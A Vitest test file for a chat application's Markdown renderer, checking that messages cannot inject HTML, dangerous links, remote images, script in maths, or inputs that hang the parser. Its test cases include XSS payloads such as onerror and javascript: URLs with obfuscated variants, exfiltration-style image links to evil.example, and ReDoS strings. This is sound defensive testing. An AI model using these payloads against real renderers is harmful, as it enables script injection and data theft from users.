import { cleanup, render, screen, waitFor } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { BrokenMessage } from "../src/conversation/BrokenMessage.js";
import { isTooMuch } from "../src/markdown/parse.js";
import { ErrorBoundary } from "../src/shell/ErrorBoundary.js";
import { drawn } from "./render.js";

/** The maths part is compiled when it is first asked for. */
const SLOW = { timeout: 20_000 };

afterEach(cleanup);

function Bomb(): never {
  throw new Error("crafted");
}

/** Elements and attributes that could fetch, run or leave; none may ever come out of a message. */
function dangers(root: HTMLElement): string[] {
  const found = [
    ...root.querySelectorAll("img,script,iframe,object,embed,form,base,meta,link,video,audio,style,svg a"),
  ];
  const attributes = [...root.querySelectorAll("*")].flatMap((element) =>
    [...element.attributes]
      .filter(
        ({ name, value }) =>
          /^on|^src|^poster|^(?:form)?action|^id$|^name$/.test(name) ||
          (/href$/.test(name) && !/^(?:https?|mailto):/.test(value)),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  );
  return [...found.map((element) => element.outerHTML), ...attributes];
}

describe("MD-01, MD-07: HTML is letters", () => {
  it.each([
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:1'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "a <b id=location name=cookie>bold</b> c",
    "<iframe src='https://evil.example'></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=x></form>",
    "<base href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<video poster=https://evil.example/x>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<link rel=prefetch href=https://evil.example>",
    "<scr<script>ipt>alert(1)</script>",
    "- item <details open ontoggle=alert(1)>",
    "| a | b |\n| --- | --- |\n| <img src=x> | <br> |",
  ])("%s", async (source) => {
    const root = await drawn(source);
    expect(dangers(root)).toEqual([]);
  });

  it("shows the letters, so that nobody wonders what is missing", async () => {
    expect((await drawn("a <u>b</u>")).textContent).toBe("a <u>b</u>");
  });
});

describe("MD-02: links lead to http, https and mail alone", () => {
  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](file:///etc/passwd)",
    "[x](/api/v1/sessions)",
    "[x](//evil.example)",
    "[x](blob:https://x/1)",
    "[x](\u0001javascript:alert(1))",
  ])("%j has no address", async (source) => {
    const root = await drawn(source);
    expect(root.querySelector("a[href]")).toBeNull();
    expect(dangers(root)).toEqual([]);
  });

  it("MD-05: what has one opens elsewhere, tells nothing and shows it whole", async () => {
    const link = (await drawn("[words](https://example.org/a?b=c)")).querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://example.org/a?b=c");
    expect(link?.rel).toContain("noopener noreferrer");
    expect(link?.referrerPolicy).toBe("no-referrer");
    expect(link?.target).toBe("_blank");
    expect(link?.title).toContain("https://example.org/a?b=c");
  });

  it("names the true host beside words that claim another", async () => {
    expect((await drawn("[bank.example](https://evil.example/login)")).textContent).toContain(
      "(evil.example)",
    );
    expect((await drawn("[www.example.org](https://example.org)")).textContent).not.toContain("(");
  });

  it("resolves references that stand in another block", async () => {
    const root = await drawn("see [docs][d]\n\nmore\n\n[d]: https://example.org/d");
    expect(root.querySelector("a")?.href).toBe("https://example.org/d");
    expect(root.textContent).not.toContain("[d]");
  });
});

describe("MD-04, MD-06: no image is ever loaded", () => {
  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](//evil.example/p.svg)",
    "# ![x](https://evil.example/p.svg)",
    "| a |\n| --- |\n| ![x](https://evil.example/p.png) |",
  ])("%s", async (source) => {
    const root = await drawn(source);
    expect(dangers(root)).toEqual([]);
    expect(root.textContent).toContain("blocked image");
  });

  it("says whose it was", async () => {
    expect((await drawn("![a graph](https://evil.example/?q=1)")).textContent).toBe(
      "a graph · blocked image: evil.example",
    );
  });
});

describe("other bad input", () => {
  it("MD-09: a fence's language is a name or nothing", async () => {
    const root = await drawn('```js" onmouseover=alert(1) x="\ncode\n```');
    expect(dangers(root)).toEqual([]);
    expect(root.querySelector("code")?.textContent).toBe("code");
  });

  it("MD-10: what would take long is shown as it was written, at once", async () => {
    for (const source of [
      "*".repeat(100_000),
      "[".repeat(100_000),
      "((((".repeat(250_000),
      `${"> ".repeat(5000)}x`,
      "- ".repeat(5000),
      "a**b".repeat(20_000),
      "<a".repeat(50_000),
      "![".repeat(50_000),
      "`".repeat(60_000),
      "$".repeat(50_000),
      "_a".repeat(40_000),
    ]) {
      // Quadratic work would not end before the runner's own time-out.
      const root = await drawn(source);
      expect(root.querySelector(".md-section")?.childElementCount).toBeGreaterThan(0);
      cleanup();
    }
  });

  it("MD-10: long text that is only long is still Markdown", () => {
    expect(isTooMuch(`${"word ".repeat(10_000)}`)).toBe(false);
    expect(
      isTooMuch("| a | b |\n| --- | --- |\n".concat("| some text here | more text there |\n".repeat(900))),
    ).toBe(false);
  });

  it("MD-11: a message that throws breaks itself alone, and can still be read", () => {
    vi.spyOn(console, "error").mockImplementation(() => undefined);
    render(
      <>
        <ErrorBoundary fallback={<BrokenMessage text="the letters" />}>
          <Bomb />
        </ErrorBoundary>
        <p>the rest</p>
      </>,
    );
    expect(screen.getByText("This message can't be shown.")).toBeTruthy();
    expect(screen.getByText("the rest")).toBeTruthy();
  });

  it("MD-12: front matter is text", async () => {
    expect((await drawn("---\ntitle: x\n---\n\nafter")).textContent).toContain("title: x");
  });
});

describe("drawing", () => {
  it("draws tables with alignment and line breaks", async () => {
    const root = await drawn("| a | b |\n| :-- | --: |\n| 1<br>2 | 3 |");
    expect(root.querySelectorAll("th")).toHaveLength(2);
    expect(root.querySelector("td")?.innerHTML).toBe("1<br>2");
    expect(root.querySelector("td:last-child")?.className).toBe("md-right");
  });

  it("knows money from maths", async () => {
    const money = await drawn("between $5 and $10 a month");
    expect(money.textContent).toBe("between $5 and $10 a month");
    const maths = await drawn("so $x^2$ and \\(y\\), costing \\$5");
    // Until the maths part is here, the letters are.
    expect(maths.textContent).toContain("x^2");
    await waitFor(() => expect(maths.querySelectorAll("math")).toHaveLength(2), SLOW);
    expect(maths.textContent).toContain("costing $5");
  });

  it("draws display maths, and shows the source of what is none", async () => {
    const root = await drawn("$$\n\\frac{a}{b}\n$$\n\n$$\n\\frac{a\n$$");
    await waitFor(() => expect(root.querySelectorAll("math")).toHaveLength(1), SLOW);
    expect(root.querySelector("code")?.textContent).toBe("\\frac{a");
  });

  it("maths has no way out either", async () => {
    const root = await drawn(
      "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/x}$ $\\class{a}{b}$ $\\style{background:url(//evil.example)}{x}$",
    );
    await waitFor(() => expect(root.querySelector("math, code")).not.toBeNull());
    expect(dangers(root)).toEqual([]);
    expect([...root.querySelectorAll("[style]")].filter((each) => each.outerHTML.includes("url"))).toEqual(
      [],
    );
  });

  it("shows a half-written reply as it will be", async () => {
    expect((await drawn("**bo", true)).querySelector("strong")?.textContent).toBe("bo");
    expect((await drawn("| a | b |", true)).querySelectorAll("th")).toHaveLength(2);
    expect((await drawn("```js\nlet a", true)).querySelector("pre")?.textContent).toBe("let a");
  });

  it("draws task lists, footnotes and quotes", async () => {
    const root = await drawn("- [x] done\n- [ ] open\n\n> quote\n\nA note[^1].\n\n[^1]: Below.");
    expect(root.querySelectorAll("[role=img]")).toHaveLength(2);
    expect(root.querySelector("sup")?.textContent).toBe("[1]");
    expect(root.querySelector(".md-footnote")?.textContent).toContain("Below.");
  });

  it("draws a diagram only in a frame without an origin", async () => {
    const root = await drawn("```mermaid\ngraph TD; a-->b\n```");
    const frame = root.querySelector("iframe");
    expect(frame?.getAttribute("sandbox")).toBe("allow-scripts");
    expect(frame?.getAttribute("src")).toBe("/frames/mermaid.html");
  });
});
